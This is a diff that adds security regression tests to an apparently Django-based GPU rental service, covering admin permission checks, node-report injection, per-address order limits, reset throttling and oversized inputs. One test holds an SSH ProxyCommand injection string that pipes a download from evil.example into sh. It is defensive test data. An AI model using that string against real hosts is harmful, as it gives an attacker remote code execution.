@@ -245,3 +245,143 @@ def test_a_password_change_kills_tokens_made_before_it(server):
                                                     "new_password2": "a new pass 55123"})
     assert response.status_code == 302
     assert api(server, "GET", "/api/v1/leases", raw).status_code == 401
+
+
+# --- issue 28: the holes an attack on the production-like stack found ------------------------------
+
+def staff_browser(server, username, *perms):
+    from django.contrib.auth.models import Permission
+
+    user = User.objects.create_user(username=username, password=STAFF_PASSWORD, is_staff=True)
+    for perm in perms:
+        app, codename = perm.split(".")
+        user.user_permissions.add(Permission.objects.get(content_type__app_label=app, codename=codename))
+    device = authenticator_for(user)
+    browser = Browser(server)
+    browser.login(username, STAFF_PASSWORD)
+    assert browser.post("/accounts/otp/verify/", {"code": code_for(device)}).status_code == 302
+    return browser
+
+
+def run_action(browser, changelist, action, pks, **extra):
+    from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
+
+    return browser.post(changelist, {"action": action, ACTION_CHECKBOX_NAME: pks, "post": "yes", **extra})
+
+
+def test_view_only_staff_cannot_credit_a_payment_review(server):
+    from billing.models import LedgerEntry, PaymentReview
+    from tests.billing.test_pages import place
+
+    with_review = make_customer()
+    _lease, invoice = place(with_review)
+    from billing.payments.services import quote_create
+    from tests.billing.payments_helpers import offline_coins, set_rate
+
+    with offline_coins():
+        set_rate("LTC", "100", timezone.now())
+        quote = quote_create(invoice=invoice, coin="LTC", now=timezone.now())
+    review = PaymentReview.objects.create(key="attack", quote=quote, kind=PaymentReview.Kind.OVER_CAP,
+                                          amount=10**8, proposed_cents=1_000_00, created_at=timezone.now())
+    viewer = staff_browser(server, "viewer", "billing.view_paymentreview")
+    page = viewer.get("/admin/billing/paymentreview/")
+    assert page.status_code == 200 and "credit_reviews" not in page.text
+    run_action(viewer, "/admin/billing/paymentreview/", "credit_reviews", [review.pk], confirm="on")
+    review.refresh_from_db()
+    assert review.state == PaymentReview.State.OPEN
+    assert not LedgerEntry.objects.filter(account__customer=with_review, amount_cents=1_000_00).exists()
+
+
+def test_view_only_staff_cannot_mint_an_enrolment_code_nor_revoke(server):
+    from fleet.models import EnrolmentCode
+    from inventory.models import Node
+
+    node = Node.objects.first()
+    viewer = staff_browser(server, "viewer", "inventory.view_node", "fleet.view_nodeagent")
+    page = run_action(viewer, "/admin/inventory/node/", "enrolment_code", [node.pk])
+    assert "Enrolment codes" not in page.text and not EnrolmentCode.objects.exists()
+    run_action(viewer, "/admin/inventory/node/", "revoke_credential", [node.pk])
+    operator = staff_browser(server, "nodeop", "inventory.view_node", "inventory.change_node",
+                             "fleet.change_nodeagent")
+    page = run_action(operator, "/admin/inventory/node/", "enrolment_code", [node.pk])
+    assert page.status_code == 200 and EnrolmentCode.objects.count() == 1
+    assert page.headers["Cache-Control"] == "no-store"
+
+
+def test_a_rogue_node_cannot_turn_the_ssh_line_into_a_command(server, settings):
+    import base64
+
+    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
+
+    from fleet.crypto import canonical_json
+    from fleet.services import enrolment_code_create
+    from inventory.models import SlotAllocation
+
+    settings.HOST_AGENT = "fleet.driver.NodeAgentDriver"
+    victim = make_customer()
+    balance_top_up(customer=victim, amount_cents=1_000_00, now=timezone.now())
+    raw = api_token_create(customer=victim, name="all")[1]
+    lease = api(server, "POST", "/api/v1/orders", raw, {**ORDER, "pay_from_balance": True}).json()["lease"]
+    node = SlotAllocation.objects.filter(lease_id=lease["id"]).select_related("slot__node").first().slot.node
+    key = Ed25519PrivateKey.generate()
+    public = base64.b64encode(key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)).decode()
+    code = enrolment_code_create(node=node, actor=None, now=timezone.now())
+    credential = api(server, "POST", "/agent/v1/enrol", body={"code": code, "public_key": public,
+                                                               "agent_version": "0.1", "hostname": "h"}).json()
+    auth = {"Authorization": f"Node {credential['credential']}"}
+    evil = "x -oProxyCommand='sh -c \"curl https://evil.example/x|sh\"'"
+    record = {"kind": "instance_ready", "node": node.name, "lease_id": lease["id"], "op_id": f"{lease['id']}:x:1",
+              "at": timezone.now().strftime("%Y-%m-%dT%H:%M:%SZ"), "ssh_port": 22042, "host": evil,
+              "gpus": ["GPU-0"], "image": "pytorch"}
+    record["signature"] = base64.b64encode(key.sign(canonical_json(record))).decode()
+    for n, items in enumerate(({"public_host": evil}, {"evidence": [record]},
+                               {"agent_version": "0.1\u0000", "gpus": []}), start=1):
+        body = json.dumps({"seq": n, "sent_at": timezone.now().strftime("%Y-%m-%dT%H:%M:%SZ"), "gpu_library": "nvml",
+                           **items}).encode()
+        signature = base64.b64encode(key.sign(body)).decode()
+        response = requests.post(server + "/agent/v1/report", data=body, timeout=TIMEOUT,
+                                 headers={**auth, "X-Node-Signature": signature, "Content-Type": "application/json"})
+        assert response.status_code in (200, 400) and response.headers["Content-Type"] == "application/json"
+        if "agent_version" in items:  # the NUL: a clean 400, not a 500 HTML page
+            assert response.status_code == 400 and response.json() == {"error": "invalid_json"}
+        else:
+            assert response.json()["refused"], response.text
+    shown = api(server, "GET", f"/api/v1/leases/{lease['id']}", raw).json()
+    assert "ProxyCommand" not in json.dumps(shown)
+    assert Lease.objects.get(pk=lease["id"]).host == ""
+
+
+def test_accounts_from_one_address_cannot_hold_every_8x_gpu_server(server):
+    from inventory.models import Offer
+    from inventory.selectors import sites_with_stock_for
+
+    offer = Offer.objects.get(slug="8x-h100-sxm")
+    site = sorted(sites_with_stock_for(offer))[0]
+    order = {**ORDER, "offer": offer.slug, "site": site}
+    answers = []
+    for name in ("sock1", "sock2", "sock3"):
+        raw = api_token_create(customer=make_customer(name), name="t")[1]
+        answers.append(api(server, "POST", "/api/v1/orders", raw, order))
+    assert [r.status_code for r in answers] == [201, 409, 409]
+    assert "your address" in answers[1].json()["message"]
+    assert Lease.objects.filter(state=LeaseState.PENDING).count() == 1
+
+
+def test_password_reset_requests_are_throttled(server, settings):
+    from django.core import mail
+
+    make_customer(email="mallory@example.org")
+    settings.PASSWORD_RESETS_PER_EMAIL = 2
+    answers = [Browser(server).post("/accounts/password/reset/", {"email": "mallory@example.org"}).status_code
+               for _ in range(3)]
+    assert answers == [302, 302, 429] and len(mail.outbox) == 2
+
+
+def test_a_config_with_an_integer_above_float_range_is_a_400(server):
+    config = {"hidden_size": 10**309, "num_attention_heads": 32, "num_hidden_layers": 32, "vocab_size": 32000}
+    response = requests.post(server + "/api/v1/estimate", data=json.dumps(config), timeout=TIMEOUT,
+                             headers={"Content-Type": "application/json"})
+    assert response.status_code == 400 and response.json()["field"] == "config.hidden_size"
+    response = requests.get(server + "/size/", params={"config": json.dumps(config)}, timeout=TIMEOUT)
+    assert response.status_code == 400 and "text/html" in response.headers["Content-Type"]
